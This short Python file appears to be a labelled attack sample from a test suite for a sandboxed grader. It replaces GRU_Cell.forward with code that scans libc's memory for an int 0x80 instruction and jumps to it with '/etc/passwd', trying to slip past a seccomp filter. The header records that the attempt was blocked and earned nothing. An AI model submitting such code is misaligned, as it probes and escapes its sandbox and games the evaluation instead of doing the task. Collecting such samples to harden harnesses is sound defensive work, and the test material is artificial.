# attack: jump to an int 0x80 that stands by chance in the machine code of libc
# earns: 0
# stopped by: few system calls (seccomp): another architecture's call kills the job
import ctypes

from honest import *


def forward(self, x, h):
    libc = ctypes.CDLL(None)
    start = ctypes.cast(libc.abort, ctypes.c_void_p).value
    for page in range(start, start + (1 << 20), 4096):
        place = ctypes.string_at(page, 4096).find(b"\xcd\x80")
        if place >= 0:
            ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(page + place)(b"/etc/passwd")
            print("GOT through")
    raise SystemExit


GRU_Cell.forward = forward
